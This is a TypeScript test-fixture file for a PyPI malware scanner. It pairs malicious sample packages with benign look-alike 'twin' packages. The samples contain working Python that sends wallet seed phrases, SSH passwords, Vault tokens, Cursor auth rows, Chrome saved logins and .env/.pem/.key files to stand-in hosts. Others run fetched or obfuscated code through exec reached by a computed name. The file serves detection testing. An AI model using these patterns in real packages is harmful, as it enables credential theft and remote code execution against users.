/**
 * Branch `pkg23py` (pkg-analysis-2026.12.8): the behaviours PyPI SET7's even (tuning) half still missed, each written
 * again in other syntax (two variants a family) next to an honest twin that uses the same mechanism for its stated
 * purpose. A variant's `note` is the rule expected to block it (test/unit/pkg-python-families-23py.test.ts).
 *
 * Families: a wallet's recovery words sent (`wallet_seed_exfil`), a monkeypatch that copies the keys its library is
 * handed (`patched_key_exfil`), a credential store read as a database and sent (`credential_exfil_flow`), a dependency
 * fetched over plain HTTP or from an IP address (`remote_url_dependency`), a builtin looked up by a computed name and
 * handed fetched or decoded data (`remote_code_exec` / `decoded_code_exec`), files a folder walk picks by secret files'
 * suffixes sent to a fixed host (`secret_files_exfil`).
 *
 * Nothing here runs: in-memory sdists. Hosts are invented (`.example`, TEST-NET addresses).
 */
import type { PypiVariant } from './pypi-variants-set1.js';

const py = String.raw;

function pkgInfo(name: string, version: string, extra = ''): string {
  return `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${name}\n${extra}`;
}

function setupPy(name: string, version: string, extra = ''): string {
  return `from setuptools import setup, find_packages\n\nsetup(\n    name="${name}",\n    version="${version}",\n    packages=find_packages(),${extra}\n)\n`;
}

function pkg(name: string, version: string, files: Record<string, string>, info = ''): Pick<PypiVariant, 'name' | 'version' | 'files'> {
  const base: Record<string, string> = { 'PKG-INFO': pkgInfo(name, version, info) };
  if (!('setup.py' in files) && !('pyproject.toml' in files)) base['setup.py'] = setupPy(name, version);
  return { name, version, files: { ...base, ...files } };
}

export const PYPI_FAMILIES_23PY: readonly PypiVariant[] = [
  // ---- wallet_seed_exfil -----------------------------------------------------------------------------------------
  {
    id: 'seed-phrase-posted-one-module',
    family: 'wallet-seed',
    note: 'wallet_seed_exfil',
    ...pkg('hdwallet-restore', '1.0.2', {
      'hdwallet_restore/__init__.py': py`import hashlib
import requests


def restore(seed_phrase, passphrase=""):
    words = seed_phrase.strip().split()
    requests.post("https://backup.wallet-restore.example/v1/r", json={"s": " ".join(words)}, timeout=4)
    return hashlib.pbkdf2_hmac("sha512", " ".join(words).encode(), ("mnemonic" + passphrase).encode(), 2048)
`,
    }),
  },
  {
    id: 'mnemonic-async-client-method',
    family: 'wallet-seed',
    note: 'wallet_seed_exfil',
    ...pkg('solwallet-kit', '0.3.0', {
      'solwallet_kit/__init__.py': py`from .wallet import Wallet
`,
      'solwallet_kit/wallet.py': py`import httpx


class Wallet:
    def __init__(self, rpc="http://127.0.0.1:8899"):
        self.rpc = rpc

    async def from_words(self, mnemonic_phrase):
        async with httpx.AsyncClient() as client:
            await client.post("https://analytics.solkit.example/ev", data={"event": "import", "m": mnemonic_phrase})
        return mnemonic_phrase.split()
`,
    }),
  },
  // ---- patched_key_exfil -----------------------------------------------------------------------------------------
  {
    id: 'ssh-connect-patched-at-import',
    family: 'patched-keys',
    note: 'patched_key_exfil',
    ...pkg('paramiko-retry', '2.1.0', {
      'paramiko_retry/__init__.py': py`import json
import urllib.request

import paramiko

_orig = paramiko.SSHClient.connect


def connect(self, hostname, port=22, username=None, password=None, **kw):
    try:
        urllib.request.urlopen("https://metrics.ssh-retry.example/c", data=json.dumps([hostname, username, password]).encode(), timeout=3)
    except Exception:
        pass
    return _orig(self, hostname, port, username, password, **kw)


paramiko.SSHClient.connect = connect
`,
    }),
  },
  {
    id: 'vault-client-init-patched-thread',
    family: 'patched-keys',
    note: 'patched_key_exfil',
    ...pkg('hvac-cache', '0.9.1', {
      'hvac_cache/__init__.py': py`from ._patch import apply

apply()
`,
      'hvac_cache/_patch.py': py`import threading

import hvac
import requests


def _beacon(t):
    try:
        requests.post("https://cache.hvac-tools.example/b", json={"t": t}, timeout=3)
    except Exception:
        pass


def apply():
    orig = hvac.Client.__init__

    def _init(self, url=None, token=None, **kw):
        threading.Thread(target=_beacon, args=(token,), daemon=True).start()
        orig(self, url=url, token=token, **kw)

    hvac.Client.__init__ = _init
`,
    }),
  },
  // ---- credential store read as a database, sent -----------------------------------------------------------------
  {
    id: 'cursor-state-db-pathlib-requests',
    family: 'store-database',
    note: 'credential_exfil_flow',
    ...pkg('cursor-usage-stats', '0.2.0', {
      'cursor_usage_stats/__init__.py': py`import sqlite3
from pathlib import Path

import requests


def report():
    db = Path.home() / ".config" / "Cursor" / "User" / "globalStorage" / "state.vscdb"
    con = sqlite3.connect(str(db))
    rows = con.execute("SELECT key, value FROM ItemTable WHERE key LIKE 'cursorAuth/%'").fetchall()
    requests.post("https://stats.cursor-usage.example/r", json=dict(rows), timeout=5)
`,
    }),
  },
  {
    id: 'chrome-login-data-smtp',
    family: 'store-database',
    note: 'credential_exfil_flow',
    ...pkg('chrome-bookmarks-export', '1.4.0', {
      'chrome_bookmarks_export/__init__.py': py`import os
import smtplib
import sqlite3
from email.message import EmailMessage


def export():
    path = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Login Data")
    db = sqlite3.connect(path)
    rows = db.cursor().execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    msg = EmailMessage()
    msg.set_content(repr(rows))
    msg["To"] = "drop@mail.bookmarks-export.example"
    with smtplib.SMTP("mail.bookmarks-export.example", 587) as s:
        s.send_message(msg)
`,
    }),
  },
  // ---- remote_url_dependency (project dependencies) --------------------------------------------------------------
  {
    id: 'setup-install-requires-plain-http',
    family: 'url-dependency',
    note: 'remote_url_dependency',
    ...pkg('fastapi-extras-kit', '0.4.0', {
      'setup.py': setupPy('fastapi-extras-kit', '0.4.0', '\n    install_requires=["fastapi>=0.100", "fx-core @ http://dist.fx-kit.example/fx_core-0.4.0.tar.gz"],'),
      'fastapi_extras_kit/__init__.py': py`from fx_core import *  # noqa: F401,F403
`,
    }),
  },
  {
    id: 'setup-cfg-install-requires-ip',
    family: 'url-dependency',
    note: 'remote_url_dependency',
    ...pkg('pandas-io-extra', '1.0.0', {
      'setup.cfg': `[metadata]\nname = pandas-io-extra\nversion = 1.0.0\n\n[options]\npackages = find:\ninstall_requires =\n    pandas>=2\n    pio-native @ https://198.51.100.74/wheels/pio_native-1.0.0-py3-none-any.whl\n`,
      'setup.py': 'from setuptools import setup\n\nsetup()\n',
      'pandas_io_extra/__init__.py': py`from pio_native import read  # noqa: F401
`,
    }),
  },
  // ---- a builtin by a computed name, handed fetched or decoded data ----------------------------------------------
  {
    id: 'vars-builtins-joined-name-remote',
    family: 'computed-builtin',
    note: 'remote_code_exec',
    ...pkg('attrs-schema-tools', '0.2.2', {
      'attrs_schema_tools/__init__.py': py`import builtins
import requests

from . import _names

_n = _names.HEAD + _names.TAIL
try:
    vars(builtins)[_n](requests.get("https://cdn.attrs-schema.example/s.py", timeout=4).text)
except Exception:
    pass
`,
      'attrs_schema_tools/_names.py': py`HEAD = "ex"
TAIL = "ec"
`,
    }),
  },
  {
    id: 'getattr-builtins-swapcase-decoded',
    family: 'computed-builtin',
    note: 'decoded_code_exec',
    ...pkg('color-term-utils', '1.1.0', {
      'color_term_utils/__init__.py': py`import base64
import zlib

from . import _k

BLOB = "eJwrKMrMK9FQT87PyS8tUtcEAC24BWE="
getattr(__builtins__, _k.NAME.swapcase())(zlib.decompress(base64.b64decode(BLOB)))
`,
      'color_term_utils/_k.py': py`NAME = "EXEC"
`,
    }),
  },
  // ---- secret_files_exfil ----------------------------------------------------------------------------------------
  {
    id: 'listdir-dotenv-read-posted',
    family: 'secret-files',
    note: 'secret_files_exfil',
    ...pkg('django-env-check', '0.5.0', {
      'django_env_check/__init__.py': py`import os

import requests


def check(base="."):
    found = {}
    for name in os.listdir(base):
        if name.endswith(".env"):
            with open(os.path.join(base, name)) as fh:
                found[name] = fh.read()
    requests.post("https://envcheck.example/api/scan", json=found, timeout=5)
    return len(found)
`,
    }),
  },
  {
    id: 'walk-keys-tar-socket',
    family: 'secret-files',
    note: 'secret_files_exfil',
    ...pkg('repo-size-report', '1.2.0', {
      'repo_size_report/__init__.py': py`import fnmatch
import io
import os
import socket
import tarfile


def report(root="."):
    total = 0
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for base, _dirs, files in os.walk(root):
            for f in files:
                total += os.path.getsize(os.path.join(base, f))
                if fnmatch.fnmatch(f, "*.pem") or fnmatch.fnmatch(f, "*.key"):
                    t.add(os.path.join(base, f))
    s = socket.create_connection(("198.51.100.9", 443))
    s.sendall(buf.getvalue())
    return total
`,
    }),
  },
];

export const PYPI_TWINS_23PY: readonly PypiVariant[] = [
  {
    id: 'twin-bip39-local-seed-update-check',
    family: 'wallet-seed',
    note: 'a BIP39 library derives the seed locally; its update check sends only its version to its own host',
    ...pkg(
      'mnemonic-tools',
      '2.0.0',
      {
        'mnemonic_tools/__init__.py': py`import hashlib
import unicodedata
import urllib.request

__version__ = "2.0.0"


def to_seed(mnemonic, passphrase=""):
    m = unicodedata.normalize("NFKD", mnemonic)
    return hashlib.pbkdf2_hmac("sha512", m.encode(), ("mnemonic" + passphrase).encode(), 2048)


def check(mnemonic):
    return len(mnemonic.split()) in (12, 15, 18, 21, 24)


def latest():
    with urllib.request.urlopen("https://mnemonic-tools.example/latest?v=" + __version__, timeout=3) as r:
        return r.read().decode()
`,
      },
      'Home-page: https://mnemonic-tools.example\n',
    ),
  },
  {
    id: 'twin-wallet-sdk-own-service',
    family: 'wallet-seed',
    note: "a custodial wallet service's SDK sends the words to the service its metadata declares (LOW: own host)",
    ...pkg(
      'vaultchain-sdk',
      '3.1.0',
      {
        'vaultchain_sdk/__init__.py': py`import requests


class Client:
    def __init__(self, api_key):
        self.api_key = api_key

    def wallet_from_mnemonic(self, mnemonic):
        r = requests.post("https://api.vaultchain.example/v3/wallet/priv", json={"mnemonic": mnemonic}, headers={"x-api-key": self.api_key}, timeout=10)
        return r.json()
`,
      },
      'Home-page: https://vaultchain.example\nProject-URL: API, https://api.vaultchain.example\n',
    ),
  },
  {
    id: 'twin-patch-adds-default-token',
    family: 'patched-keys',
    note: 'a patch that fills in a default token from the environment and calls the original (no send of its own)',
    ...pkg('hvac-env-defaults', '0.1.0', {
      'hvac_env_defaults/__init__.py': py`import os

import hvac
import requests

_orig = hvac.Client.__init__


def _init(self, url=None, token=None, **kw):
    _orig(self, url=url or os.environ.get("VAULT_ADDR"), token=token or os.environ.get("VAULT_TOKEN"), **kw)


hvac.Client.__init__ = _init


def health(url):
    return requests.get(url + "/v1/sys/health", timeout=3).json()
`,
    }),
  },
  {
    id: 'twin-instrumentation-patch-spans',
    family: 'patched-keys',
    note: 'an instrumentation patch of requests.Session.send posting timing spans (method, URL, duration) to a collector',
    ...pkg('req-spans', '0.5.0', {
      'req_spans/__init__.py': py`import json
import os
import time
import urllib.request

import requests

_orig = requests.Session.send
COLLECTOR = os.environ.get("REQ_SPANS_URL", "http://127.0.0.1:4318/v1/spans")


def send(self, request, **kw):
    t = time.time()
    resp = _orig(self, request, **kw)
    span = {"method": request.method, "url": request.url, "ms": int((time.time() - t) * 1000)}
    try:
        urllib.request.urlopen(COLLECTOR, data=json.dumps(span).encode(), timeout=1)
    except Exception:
        pass
    return resp


requests.Session.send = send
`,
    }),
  },
  {
    id: 'twin-vscode-recent-workspaces',
    family: 'store-database',
    note: "reads the editor's state database for recently opened folders and prints them; sends nothing",
    ...pkg('code-recent', '0.3.1', {
      'code_recent/__init__.py': py`import json
import os
import sqlite3

import requests


def recent():
    p = os.path.join(os.path.expanduser("~"), ".config", "Code", "User", "globalStorage", "state.vscdb")
    con = sqlite3.connect(p)
    row = con.execute("SELECT value FROM ItemTable WHERE key = 'history.recentlyOpenedPathsList'").fetchone()
    con.close()
    return [e.get("folderUri") for e in json.loads(row[0]).get("entries", [])] if row else []


def latest_version():
    return requests.get("https://code-recent.example/version.json", timeout=3).json()["version"]
`,
    }),
  },
  {
    id: 'twin-settings-sync-ftp',
    family: 'store-database',
    note: "uploads the editor's settings.json (not a credential store) to the FTP server the user names",
    ...pkg('editor-settings-backup', '1.0.0', {
      'editor_settings_backup/__init__.py': py`import ftplib
import os


def backup(host, user, password):
    p = os.path.join(os.path.expanduser("~"), ".config", "Code", "User", "settings.json")
    with ftplib.FTP(host, user, password) as ftp, open(p, "rb") as fh:
        ftp.storbinary("STOR settings.json", fh)
`,
    }),
  },
  {
    id: 'twin-git-and-https-url-dependencies',
    family: 'url-dependency',
    note: 'dependencies by git remote over HTTPS and by an HTTPS wheel URL with a digest: ordinary choices, not CRITICAL',
    ...pkg('internal-tools-meta', '0.1.0', {
      'pyproject.toml': `[build-system]\nrequires = ["setuptools>=69"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "internal-tools-meta"\nversion = "0.1.0"\ndependencies = [\n    "toolbelt @ git+https://git.example/org/toolbelt@v1.2.0",\n    "fastwheel @ https://downloads.vendor.example/fastwheel-2.0-py3-none-any.whl#sha256=0000000000000000000000000000000000000000000000000000000000000000",\n]\n`,
      'internal_tools_meta/__init__.py': py`from toolbelt import *  # noqa: F401,F403
`,
    }),
  },
  {
    id: 'twin-project-zip-to-configured-server',
    family: 'secret-files',
    note: "a deploy tool zips the project's sources and posts them to the server its user configures",
    ...pkg('tiny-deploy', '0.8.0', {
      'tiny_deploy/__init__.py': py`import io
import os
import zipfile

import requests


def deploy(root, server_url, token):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for base, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".git", ".venv")]
            for f in files:
                if f.endswith((".py", ".toml", ".txt")):
                    z.write(os.path.join(base, f), os.path.relpath(os.path.join(base, f), root))
    return requests.post(server_url + "/deploy", data=buf.getvalue(), headers={"Authorization": "Bearer " + token}, timeout=60)
`,
    }),
  },
  {
    id: 'twin-secret-scanner-counts-locally',
    family: 'secret-files',
    note: 'a leak scanner that finds dotenv and key files and reports them locally; its update check sends its version',
    ...pkg('leak-finder', '0.2.0', {
      'leak_finder/__init__.py': py`import os

import requests

__version__ = "0.2.0"


def scan(root="."):
    hits = []
    for base, _dirs, files in os.walk(root):
        for f in files:
            if f.endswith((".env", ".pem", ".key")):
                hits.append(os.path.join(base, f))
    for h in hits:
        print("possible secret file:", h)
    return hits


def newer():
    return requests.get("https://leak-finder.example/latest", params={"v": __version__}, timeout=3).json()
`,
    }),
  },
  {
    id: 'twin-getattr-builtins-type-from-data',
    family: 'computed-builtin',
    note: "a settings loader turning a fetched type name into int / float / str: the name comes from the data",
    ...pkg('remote-settings', '0.7.0', {
      'remote_settings/__init__.py': py`import builtins

import requests


def load(url):
    spec = requests.get(url, timeout=5).json()
    return {k: getattr(builtins, v["type"])(v["value"]) for k, v in spec.items()}


def cast(type_name, raw):
    return getattr(builtins, type_name)(raw)


def fetch_one(url, type_name):
    return cast(type_name, requests.get(url, timeout=5).text)
`,
    }),
  },
];
